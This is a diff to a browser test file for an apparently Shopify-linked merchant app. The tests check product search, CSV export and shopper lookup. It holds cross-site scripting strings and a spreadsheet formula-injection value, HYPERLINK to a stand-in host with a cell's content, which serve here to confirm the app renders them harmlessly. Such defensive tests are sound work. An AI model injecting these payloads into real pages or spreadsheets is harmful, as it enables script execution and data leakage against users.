@@ -22,7 +22,7 @@ from .test_pages import check_open_to_everybody
 pytestmark = pytest.mark.xdist_group("browser")  # one process, one browser
 
 PICTURE = "https://pictures.test/shirt.png"
-MARKUP, FORMULA = "<img src=x onerror=alert(1)>", '=HYPERLINK("http://x"&A1)'
+MARKUP, FORMULA = "<img src=x onerror=alert(1)>" + "W" * 220, '=HYPERLINK("http://x"&A1)'
 NOTE = "<script>alert(1)</script><a href=javascript:alert(1)>me</a>"
 PNG = bytes.fromhex(
     "89504e470d0a1a0a0000000d4948445200000001000000010806000000"
@@ -193,6 +193,7 @@ def test_products_are_searched_sorted_and_kept_as_a_spreadsheet(world, merchant)
     assert [row[:2] for row in cells(page, "Products by their wishes")[1:]] == [
         ["Oslo shirt", "3"], [MARKUP, "1"], [FORMULA, "1"]
     ]  # fmt: skip
+    assert page.locator(".scroll").evaluate("(table) => table.scrollWidth === table.clientWidth")
     with page.expect_download() as kept:
         page.get_by_role("button", name="Download CSV").click()
     text = kept.value.path().read_bytes().decode("utf-8-sig")
@@ -212,6 +213,9 @@ def test_products_are_searched_sorted_and_kept_as_a_spreadsheet(world, merchant)
     page.keyboard.press("Enter")
     expect(page.get_by_role("table").get_by_role("row")).to_have_count(2)
     assert page.url.endswith("#/products?sort=added&days=7&title=oSLo")
+    page.get_by_label("Part of a title").fill(MARKUP)
+    page.keyboard.press("Enter")
+    expect(page.get_by_role("rowheader", name=MARKUP)).to_be_visible()
     page.get_by_label("Part of a title").fill("nothing like it")
     page.get_by_role("button", name="Search").click()
     expect(page.get_by_role("heading", name="No product with “nothing like it”")).to_be_visible()
@@ -290,6 +294,9 @@ def test_shopper_is_found_shown_kept_and_erased(world, merchant):
     expect(page.locator("details").get_by_text(NOTE)).to_be_visible()
     find(world.ben.gid)
     expect(page.get_by_role("heading", name=world.ben.gid)).to_be_visible()
+    merchant.expected.add("400")
+    find("ann smith")
+    expect(page.locator(".notice")).to_contain_text("must be gid://shopify/Customer/<id>")
     find("nobody")
     expect(page.get_by_role("heading", name="Nothing is stored of them")).to_be_visible()
     find("carl")
